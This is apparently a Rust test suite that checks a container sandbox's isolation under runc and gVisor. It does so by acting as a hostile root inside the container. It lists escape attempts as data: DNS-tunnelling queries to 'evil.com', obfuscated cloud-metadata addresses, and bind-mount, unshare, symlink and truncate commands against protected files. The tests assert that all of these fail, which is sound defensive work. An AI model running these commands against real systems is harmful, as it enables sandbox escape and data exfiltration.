//! What a hostile root in a sandbox tries, and what comes of it; with runc and with gVisor.

use std::collections::BTreeMap;
use std::fs;
use std::io::{BufRead, BufReader, Write};
use std::net::Ipv4Addr;
use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use serde_json::{Value, json};

use super::yard::{DEADLINE, Service, Yard, container, docker, host, kill9, run_within, script, wait_until};
use crate::support::server::{install, install_script};

/// What every sandbox has of ours.
const HELPER: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/target/helpers/bin/aenv");
/// A host that the neighbour reaches and the sandbox does not.
const NEIGHBOURS: &str = "[upstream.\"only-neighbour.example\"]\naddress = \"127.0.0.1:9\"\n";
const OWN: &str = "[upstream.\"api.example.com\"]\naddress = \"127.0.0.1:9\"\n";

#[test]
fn nothing_leaves_a_sandbox_of_runc() {
    nothing_leaves("runc");
}

#[test]
fn nothing_leaves_a_sandbox_of_gvisor() {
    nothing_leaves("runsc");
}

#[test]
fn the_first_process_of_runc_finds_the_rules_in_force() {
    the_first_process_finds_the_rules_in_force("runc");
}

#[test]
fn the_first_process_of_gvisor_finds_the_rules_in_force() {
    the_first_process_finds_the_rules_in_force("runsc");
}

#[test]
fn a_layer_that_is_lost_opens_nothing_with_runc() {
    a_layer_that_is_lost_opens_nothing("runc");
}

#[test]
fn a_layer_that_is_lost_opens_nothing_with_gvisor() {
    a_layer_that_is_lost_opens_nothing("runsc");
}

#[test]
fn nothing_of_the_control_plane_is_inside_runc() {
    nothing_of_the_control_plane_is_inside("runc");
}

#[test]
fn nothing_of_the_control_plane_is_inside_gvisor() {
    nothing_of_the_control_plane_is_inside("runsc");
}

/// Packets on the host, until it is asked what there were.
struct Capture(Child);

impl Capture {
    fn start(yard: &Yard, project: &str, address: Ipv4Addr, mark: &str) -> Self {
        let mut command = Command::new("python3");
        command.arg(script()).args(["capture", &yard.key(project).bridge(), &address.to_string(), mark]);
        let mut child = command.stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().unwrap();
        let mut line = String::new();
        // The pipe's reader has nothing more to lose: the script says one line until its input ends.
        BufReader::new(child.stdout.as_mut().unwrap()).read_line(&mut line).unwrap();
        assert!(line.contains("ready"), "{line}");
        Self(child)
    }

    fn end(mut self) -> Vec<Value> {
        drop(self.0.stdin.take());
        let output = BufReader::new(self.0.stdout.take().unwrap());
        output.lines().map(|line| serde_json::from_str(&line.unwrap()).unwrap()).collect()
    }
}

impl Drop for Capture {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// The address by which this host reaches the world, if it can.
fn own_address() -> Option<Ipv4Addr> {
    let socket = std::net::UdpSocket::bind("0.0.0.0:0").unwrap();
    socket.connect("198.51.100.7:9").ok()?;
    match socket.local_addr().unwrap().ip() {
        std::net::IpAddr::V4(address) => Some(address),
        std::net::IpAddr::V6(_) => None,
    }
}

struct Attempts {
    /// In every packet of them, and nowhere else.
    mark: String,
    all: Vec<Value>,
}

impl Attempts {
    /// Notes an attempt; its tag, which is in the packets, has the mark and a number.
    fn add(&mut self, mut attempt: Value) {
        attempt["tag"] = format!("{}-{}", self.mark, self.all.len()).into();
        self.all.push(attempt);
    }

    /// Makes them all in a sandbox, as root: what each was answered.
    fn make(&self, yard: &Yard, project: &str) -> Vec<(Value, Value)> {
        let lines: String = self.all.iter().map(|attempt| format!("{attempt}\n")).collect();
        fs::write(yard.workspace(project, "attempts.json"), lines).unwrap();
        fs::copy(script(), yard.workspace(project, "hostile.py")).unwrap();
        let said = docker(&[
            "exec",
            "-u",
            "0",
            &container(project),
            "sh",
            "-c",
            "exec python3 /workspace/hostile.py attempts < /workspace/attempts.json",
        ]);
        let answers: Vec<Value> = said.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
        assert_eq!(answers.len(), self.all.len());
        self.all.iter().cloned().zip(answers).collect()
    }
}

fn nothing_leaves(runtime: &str) {
    let yard = Yard::new();
    let (own, neighbour) = (yard.project("own", runtime, OWN), yard.project("other", runtime, NEIGHBOURS));
    yard.launch(&own);
    yard.launch(&neighbour);
    let ((address, gateway), (other, other_gateway)) = (yard.addresses(&own), yard.addresses(&neighbour));
    // Somebody who would answer: the host, on all its addresses, and the neighbour.
    let service = Service::start();
    let lan = own_address();
    for address in [Some(Ipv4Addr::LOCALHOST), lan].into_iter().flatten() {
        service.answers_at(address);
    }
    fs::copy(script(), yard.workspace(&neighbour, "hostile.py")).unwrap();
    let listen = ["python3", "/workspace/hostile.py", "listen", "7000", "/workspace/heard"];
    docker(&[&["exec", "-d", "-u", "0", &container(&neighbour)], &listen[..]].concat());
    let heard = || fs::read_to_string(yard.workspace(&neighbour, "heard")).unwrap_or_default();
    wait_until("the neighbour listens", DEADLINE, || if heard().is_empty() { Err(String::new()) } else { Ok(()) });

    let mark = format!("hOsTiLe-{own}");
    let mut attempts = Attempts { mark: mark.clone(), all: Vec::new() };
    let (gateway, other, other_gateway) = (gateway.to_string(), other.to_string(), other_gateway.to_string());
    // The host by all its addresses, the neighbour, and the world.
    let mut hosts = vec![gateway.clone(), "172.17.0.1".to_owned(), other, other_gateway.clone()];
    hosts.extend(lan.map(|lan| lan.to_string()));
    hosts.extend(
        ["198.51.100.7", "8.8.8.8", "169.254.169.254", "10.0.0.1", "224.0.0.251", "255.255.255.255"].map(str::to_owned),
    );
    for to in &hosts {
        for port in [22, 53, 80, 443, 853, 2375, 5353, 7000, 9901, 9902, 15001, 15053, service.port] {
            for kind in ["tcp", "udp"] {
                attempts.add(json!({ "do": kind, "to": to, "port": port }));
            }
        }
        for kind in ["dgram", "raw"] {
            attempts.add(json!({ "do": "ping", "to": to, "port": 0, "kind": kind }));
        }
        attempts.add(json!({ "do": "raw", "to": to, "port": service.port }));
    }
    attempts.add(json!({ "do": "packet", "to": "", "port": 0 }));
    // IPv6 in every form.
    let mapped = format!("::ffff:{gateway}");
    for to in ["fd00::2", "fe80::1%eth0", "ff02::1%eth0", "ff02::fb%eth0", "2001:db8::7", "64:ff9b::808:808", &mapped] {
        for port in [53, 443, 5353, service.port] {
            attempts.add(json!({ "do": "tcp", "to": to, "port": port }));
            attempts.add(json!({ "do": "udp", "to": to, "port": port }));
        }
        attempts.add(json!({ "do": "ping", "to": to, "port": 0, "kind": "raw" }));
    }
    // The cloud's own address, as it can be spelt.
    for to in [
        "169.254.169.254",
        "2852039166",
        "0xA9FEA9FE",
        "0251.0376.0251.0376",
        "169.254.43518",
        "::ffff:a9fe:a9fe",
        "metadata.google.internal",
        "169.254.169.254.nip.io",
    ] {
        attempts.add(json!({ "do": "http", "to": to, "port": 80 }));
    }
    let before = attempts.all.len();
    // Docker's own resolver asks ours, from within: a resolver on the host's loopback would be asked from the host.
    let resolver = docker(&["inspect", "-f", "{{json .HostConfig.Dns}}", &container(&own)]);
    assert_eq!(resolver.trim(), "[\"198.51.100.53\"]");
    // Data in names, to whoever may answer: by UDP and TCP, and as mDNS, of types that carry much.
    let servers = [&gateway, "8.8.8.8", "127.0.0.11", "224.0.0.251", &other_gateway, "::1", "2001:db8::7"];
    for (server, port) in servers.iter().map(|to| (*to, 53)).chain([("224.0.0.251", 5353), (&other_gateway, 15053)]) {
        for kind in [1, 28, 16, 5, 15, 10, 33, 65, 255] {
            for (number, name) in ["evil.com", "only-neighbour.example"].into_iter().enumerate() {
                let name = if number == 0 { format!("{mark}-{kind}.{name}") } else { name.to_owned() };
                for stream in [false, true] {
                    let to = json!({ "do": "dns", "to": server, "port": port, "name": name, "kind": kind, "stream": stream });
                    attempts.add(to);
                }
            }
        }
    }

    let capture = Capture::start(&yard, &own, address, &mark);
    // What the capture sees: it is no proof without.
    let control = std::net::UdpSocket::bind("0.0.0.0:0").unwrap();
    let control_left = control.send_to(b"hostile control", "198.51.100.7:9").is_ok();
    let begun = Instant::now();
    let results = attempts.make(&yard, &own);
    let packets = capture.end();
    eprintln!("{runtime}: {} attempts in {:?}", results.len(), begun.elapsed());

    // Nobody heard of any of them.
    assert_eq!(service.arrived(), [], "{runtime}: the host's service");
    assert_eq!(heard(), "listening\n", "{runtime}: the neighbour");
    for (attempt, result) in &results[..before] {
        let answer = result["answer"].as_str().unwrap_or_default();
        let (what, to) = (attempt["do"].as_str().unwrap(), attempt["to"].as_str().unwrap());
        match what {
            // Our listener takes all connections, and ends those that say nothing it knows.
            "tcp" | "http" => assert!(!answer.contains("HOST") && !answer.contains("200 OK"), "{attempt} {result}"),
            // The responder answers what is no query with an error, or not at all.
            "udp" if attempt["port"] == 53 => assert!(!answer.contains("HOST"), "{attempt} {result}"),
            "udp" => assert_eq!(result["answer"], Value::Null, "{attempt}"),
            _ => assert!(result["answer"] == Value::Null, "{what} to {to}: {result}"),
        }
        let raw = what == "raw" || what == "packet" || attempt["kind"] == "raw";
        if raw {
            let error = result["error"].as_str().unwrap();
            assert!(error.contains("not permitted") || to.contains(':'), "{attempt}: raw sockets are refused: {error}");
        }
    }
    let mut local = 0;
    for (attempt, result) in &results[before..] {
        // Answered here that there is no such name; or not at all.
        match result["answer"].as_str() {
            None => {}
            Some("rcode 3 answers 0") => local += 1,
            // `ANY` and the like may be refused instead.
            Some("rcode 5 answers 0" | "rcode 4 answers 0") => {}
            other => panic!("{attempt}: {other:?}"),
        }
    }
    assert!(local > 50, "the responder answers: {local}");

    // And nothing was seen of them on the host but on the sandbox's bridge.
    let (mut left, mut to_it) = (Vec::new(), BTreeMap::new());
    let mut from_it = 0;
    for packet in &packets {
        match packet["where"].as_str().unwrap() {
            "control" => {}
            "elsewhere" => left.push(packet),
            "to the sandbox" => {
                *to_it.entry((packet["proto"].as_u64().unwrap(), packet["sport"].as_u64().unwrap())).or_insert(0) += 1;
            }
            _ => from_it += 1,
        }
    }
    let controls = packets.iter().filter(|packet| packet["where"] == "control").count();
    assert_eq!(controls > 0, control_left && lan.is_some(), "the capture sees what leaves: {packets:#?}");
    assert!(from_it > 0, "the capture sees the sandbox: {packets:#?}");
    assert!(left.is_empty(), "{runtime}: packets that left: {left:#?}");
    assert!(to_it.keys().all(|to| *to == (6, 0) || *to == (17, 53)), "TCP and answers of DNS alone: {to_it:?}");
}

fn the_first_process_finds_the_rules_in_force(runtime: &str) {
    let helpers = tempfile::tempdir().unwrap();
    fs::set_permissions(helpers.path(), std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let service = Service::start();
    let Some(lan) = own_address() else { panic!("this host has no route to anywhere") };
    service.answers_at(lan);
    // The real helper, but for what it does first of all.
    install(Path::new(HELPER), &helpers.path().join("real"));
    fs::copy(script(), helpers.path().join("hostile.py")).unwrap();
    let first = format!(
        "#!/bin/sh\nif [ \"$1\" = init ]; then\n    cd /opt/agent-creds-bin\n    python3 hostile.py first {lan} {} \
         /workspace/lan.json &\n    python3 hostile.py first $(sed -n 's/nameserver //p' /etc/resolv.conf) {} \
         /workspace/gateway.json &\nfi\nexec /opt/agent-creds-bin/real \"$@\"\n",
        service.port, service.port
    );
    install_script(&first, &helpers.path().join("aenv"));
    for program in ["mint", "cdp-proxy"] {
        install(&Path::new(HELPER).with_file_name(program), &helpers.path().join(program));
    }
    let yard = Yard::new().with_env("AGENT_CREDS_HELPERS", helpers.path().to_str().unwrap());
    let project = yard.project("first", runtime, OWN);
    yard.launch(&project);
    for file in ["lan.json", "gateway.json"] {
        let result = || {
            fs::read(yard.workspace(&project, file)).ok().and_then(|text| serde_json::from_slice::<Value>(&text).ok())
        };
        wait_until(&format!("{file}: it tried"), DEADLINE, || match result() {
            Some(result) if result["count"].as_u64() >= Some(1) => Ok(()),
            other => Err(format!("{other:?}")),
        });
        assert_eq!(result().unwrap()["got"], json!([]), "{file}");
    }
    assert_eq!(service.arrived(), []);
}

fn a_layer_that_is_lost_opens_nothing(runtime: &str) {
    let yard = Yard::new();
    let project = yard.project("layers", runtime, OWN);
    yard.launch(&project);
    let (_, gateway) = yard.addresses(&project);
    let service = Service::start();
    service.answers_at(Ipv4Addr::LOCALHOST);
    // A loop that tries all the time to reach what the host would answer.
    fs::copy(script(), yard.workspace(&project, "hostile.py")).unwrap();
    for (number, to) in [gateway, own_address().unwrap_or(gateway)].into_iter().enumerate() {
        let (to, port, file) = (to.to_string(), service.port.to_string(), format!("/workspace/tried{number}"));
        let knock = ["python3", "/workspace/hostile.py", "knock", &to, &port, &file];
        docker(&[&["exec", "-d", "-u", "0", &container(&project)], &knock[..]].concat());
    }
    let tried = |number: u32| -> Value {
        let text = fs::read(yard.workspace(&project, &format!("tried{number}"))).unwrap_or_default();
        serde_json::from_slice(&text).unwrap_or_default()
    };
    let goes_on = |when: &str| {
        for number in [0, 1] {
            let before = tried(number)["count"].as_u64().unwrap_or_default();
            wait_until(&format!("it goes on trying {when}"), DEADLINE, || match tried(number)["count"].as_u64() {
                Some(count) if count > before + 3 => Ok(()),
                other => Err(format!("{before}, then {other:?}\n{}", yard.log())),
            });
            assert_eq!(tried(number)["got"], json!([]), "{when}");
        }
        assert_eq!(service.arrived(), [], "{when}");
    };
    goes_on("at the beginning");

    let (table, bridge) = (yard.key(&project).table(), yard.key(&project).bridge());
    let delete_table = || host(&["nft", "delete", "table", "inet", &table]);
    let delete_rules = || {
        for version in ["-4", "-6"] {
            for _ in 0..16 {
                if !run_within(Command::new("ip").args([version, "rule", "del", "iif", &bridge]), DEADLINE)
                    .status
                    .success()
                {
                    break;
                }
            }
        }
    };
    let sample = |event: &str| yard.metric(&format!("agent_creds_sandbox_isolation_total{{event=\"{event}\"}}"));
    let whole = |when: &str| {
        wait_until(&format!("its rules are whole {when}"), DEADLINE, || {
            let listed = yard.listed(&project);
            if listed["state"] == "running" { Ok(()) } else { Err(format!("{listed}\n{}", yard.log())) }
        });
        assert!(host(&["nft", "list", "tables"]).contains(&table), "{when}");
        assert!(host(&["ip", "rule"]).matches(&bridge).count() >= 5, "{when}: {}", host(&["ip", "rule"]));
    };
    for (what, lose) in [
        (
            "nft",
            &(|| {
                delete_table();
            }) as &dyn Fn(),
        ),
        ("ip rule", &delete_rules),
    ] {
        let (lost, repaired) = (sample("lost"), sample("repaired"));
        let since = host(&["date", "+%s.%N"]);
        lose();
        let took = wait_until(&format!("{what}: it is noticed and repaired"), Duration::from_secs(10), || {
            if sample("lost") > lost && sample("repaired") > repaired { Ok(()) } else { Err(yard.log()) }
        });
        eprintln!("{runtime}: {what} lost, repaired and told after {took:?}");
        whole(what);
        goes_on(what);
        // It was paused meanwhile, and people are told.
        let filter = format!("container={}", container(&project));
        let until = host(&["date", "+%s.%N"]);
        let events = docker(&[
            "events",
            "--since",
            since.trim(),
            "--until",
            until.trim(),
            "--filter",
            &filter,
            "--format",
            "{{.Action}}",
        ]);
        assert!(events.contains("pause\n") && events.contains("unpause"), "{what}: {events}");
    }
    let logs = yard.adev(&["logs", &project]);
    for text in ["the sandbox is paused until they are in force again", "the sandbox goes on"] {
        assert!(logs.stdout.matches(text).count() >= 2, "`adev logs` tells: {logs:#?}");
        assert!(yard.log().contains(text), "the log tells");
    }

    // The guard dies, and what it guards with it: nothing opens, and the next one repairs it.
    let guard = yard.containers("guard");
    assert_eq!(guard.len(), 1);
    let pid: u32 = docker(&["inspect", "-f", "{{.State.Pid}}", &guard[0]]).trim().parse().unwrap();
    kill9(pid);
    delete_table();
    let took = wait_until("another guard", Duration::from_secs(20), || {
        let now = yard.containers("guard");
        let table_is_back = host(&["nft", "list", "tables"]).contains(&table);
        if now.len() == 1 && now != guard && table_is_back { Ok(()) } else { Err(format!("{now:?}\n{}", yard.log())) }
    });
    eprintln!("{runtime}: guard killed, another one with all rules in force after {took:?}");
    whole("after the guard was killed");
    goes_on("after the guard was killed");
    assert!(yard.log().contains("the guard of the network rules ended"), "{}", yard.log());
    yard.stop(&project);
    yard.wait_until_nothing_remains("after stop");
}

fn nothing_of_the_control_plane_is_inside(runtime: &str) {
    let yard = Yard::new();
    let token = "[sandbox.env]\nAPI_TOKEN = { token = { hosts = [\"api.example.com\"] } }\n";
    let project = yard.project("inside", runtime, &format!("{token}{OWN}"));
    yard.launch(&project);
    // The token is there for a process, and nowhere where Docker keeps it.
    let seen = yard.run(&project, "printf %s \"$API_TOKEN\"");
    let token = seen.stdout;
    assert!(token.starts_with("acm_"), "{token}");
    let inspected = docker(&["inspect", &container(&project)]);
    assert!(!inspected.contains("acm_"), "no token in `docker inspect`");
    let init = docker(&[
        "exec",
        "-u",
        "0",
        &container(&project),
        "sh",
        "-c",
        "tr '\\0' '\\n' < /proc/1/environ; cat /proc/1/cmdline",
    ]);
    assert!(!init.contains("acm_") && !init.contains("PRIVATE"), "{init}");
    // No key of ours: not the CA's, not the one that signs tokens.
    let secrets: Vec<Vec<u8>> = secrets(&yard);
    assert!(secrets.len() >= 2, "the state folder has a CA key and a signing key");
    for secret in &secrets {
        assert!(
            !inspected.as_bytes().windows(secret.len()).any(|window| window == secret),
            "a key in `docker inspect`"
        );
    }
    for secret in &secrets {
        // The whole file system of the container, its mounts included, but for the kernel's own and the image's programs.
        let search = "import os,sys\nneedle=sys.stdin.buffer.read()\nassert len(needle) > 15\n\
            for top,dirs,files in os.walk('/'):\n\
            \x20if top=='/': dirs[:]=[d for d in dirs if d not in ('proc','sys','usr','lib')]\n\
            \x20for f in files:\n\
            \x20\x20p=os.path.join(top,f)\n\
            \x20\x20try:\n\
            \x20\x20\x20if os.path.isfile(p) and not os.path.islink(p) and needle in open(p,'rb').read(): print(p)\n\
            \x20\x20except OSError: pass\nprint('searched')";
        let mut child = Command::new("docker")
            .args(["exec", "-i", "-u", "0", &container(&project), "python3", "-c", search])
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .spawn()
            .unwrap();
        child.stdin.take().unwrap().write_all(secret).unwrap();
        let output = child.wait_with_output().unwrap();
        assert_eq!(String::from_utf8_lossy(&output.stdout), "searched\n", "a key of ours in the container");
    }
    // No socket of ours or Docker's is mounted; nothing of the runtime and state folders but the sandbox's own.
    let mounts: Vec<Value> =
        serde_json::from_str(&docker(&["inspect", "-f", "{{json .Mounts}}", &container(&project)])).unwrap();
    let writable: Vec<&str> =
        mounts.iter().filter(|m| m["RW"] == true).map(|m| m["Destination"].as_str().unwrap()).collect();
    assert_eq!(writable, ["/workspace"]);
    let own = yard.path("run/sandboxes").join(&project);
    for mount in &mounts {
        let source = std::path::Path::new(mount["Source"].as_str().unwrap());
        let outside = !source.starts_with(yard.path("run")) && !source.starts_with(yard.path("state"));
        assert!((outside && !yard.path("run").starts_with(source)) || source.starts_with(&own), "{mount}");
    }
    let sockets =
        docker(&["exec", "-u", "0", &container(&project), "sh", "-c", "find / -xdev -type s 2>/dev/null; true"]);
    assert_eq!(sockets, "", "no sockets");

    // What root tries with the files that are not its own.
    let config = yard.workspace(&project, "agent-creds.toml");
    let helper = fs::metadata(HELPER).unwrap().len();
    let text = fs::read_to_string(&config).unwrap();
    let tries = [
        "echo '[upstream.\"evil.example\"]' >> /workspace/agent-creds.toml",
        ": > /workspace/agent-creds.toml",
        "rm -f /workspace/agent-creds.toml",
        "echo x > /workspace/new; mv -f /workspace/new /workspace/agent-creds.toml",
        "mv /workspace/agent-creds.toml /workspace/old.toml",
        "ln -sf /etc/passwd /workspace/agent-creds.toml",
        "mount --bind /etc/passwd /workspace/agent-creds.toml",
        "umount /workspace/agent-creds.toml",
        "mount -o remount,rw /workspace/agent-creds.toml",
        "unshare -rm sh -c 'umount /workspace/agent-creds.toml && echo x >> /workspace/agent-creds.toml'",
        "chmod 777 /workspace/agent-creds.toml",
        "python3 -c \"import os; os.truncate('/workspace/agent-creds.toml', 0)\"",
        "umount /opt/agent-creds-bin/aenv",
        "rm -f /opt/agent-creds/ca.pem",
        "echo x > /opt/agent-creds/new",
        "mv /opt/agent-creds /opt/other",
        "mount -o remount,rw /opt/agent-creds",
        "echo x > /opt/agent-creds-bin/aenv",
        "rm -f /opt/agent-creds-bin/aenv",
        ": > /opt/agent-creds-bin/aenv",
        "python3 -c \"import os; os.truncate('/opt/agent-creds-bin/aenv', 0)\"",
        "echo nameserver 8.8.8.8 > /etc/resolv.conf",
    ];
    for line in tries {
        let tried = run_within(
            Command::new("docker").args(["exec", "-u", "0", &container(&project), "sh", "-c", line]),
            DEADLINE,
        );
        assert!(!tried.status.success(), "{line}: {tried:?}");
        assert_eq!(fs::read_to_string(&config).unwrap(), text, "{line}");
    }
    for open in ["os.O_RDONLY|os.O_TRUNC", "os.O_WRONLY|os.O_CREAT|os.O_TRUNC"] {
        let helpers = ["aenv", "mint", "cdp-proxy"].map(|program| format!("/opt/agent-creds-bin/{program}"));
        for file in helpers.iter().map(String::as_str).chain(["/workspace/agent-creds.toml"]) {
            let line = format!("import os; os.open('{file}', {open})");
            let _ = run_within(
                Command::new("docker").args(["exec", "-u", "0", &container(&project), "python3", "-c", &line]),
                DEADLINE,
            );
        }
    }
    assert_eq!(fs::read_to_string(&config).unwrap(), text);
    assert_eq!(fs::metadata(HELPER).unwrap().len(), helper, "the helper of all sandboxes");
    assert!(fs::metadata(Path::new(HELPER).with_file_name("mint")).unwrap().len() > 0, "the other helper");
    assert!(!own.join("new").exists());
    let answer = yard.run(&project, "aenv --json");
    assert!(answer.stdout.contains("api.example.com") && !answer.stdout.contains("evil.example"), "{answer:?}");
    // It is still the very file that the server reads: an edit on the host takes effect.
    let edited = text.replace("api.example.com", "second.example.com");
    fs::write(&config, edited).unwrap();
    wait_until("the host's edit is in force", DEADLINE, || {
        let answer = yard.run(&project, "aenv --json").stdout;
        if answer.contains("second.example.com") { Ok(()) } else { Err(answer) }
    });
}

/// The keys in the state folder: the CA's, and the one that signs tokens.
fn secrets(yard: &Yard) -> Vec<Vec<u8>> {
    let mut found = Vec::new();
    let mut folders = vec![yard.path("state")];
    while let Some(folder) = folders.pop() {
        for entry in fs::read_dir(folder).unwrap().flatten() {
            let (path, content) = (entry.path(), fs::read(entry.path()).unwrap_or_default());
            if path.is_dir() {
                folders.push(path);
                continue;
            }
            let text = String::from_utf8_lossy(&content).into_owned();
            // A line of the key itself: how it is wrapped is no matter.
            let mut lines = text.lines().skip_while(|line| !line.contains("PRIVATE KEY")).skip(1);
            if let Some(line) = lines.next() {
                found.push(line.as_bytes().to_vec());
            } else if path.extension().is_some_and(|extension| extension == "key") {
                found.push(content.trim_ascii().to_vec());
            }
        }
    }
    found
}
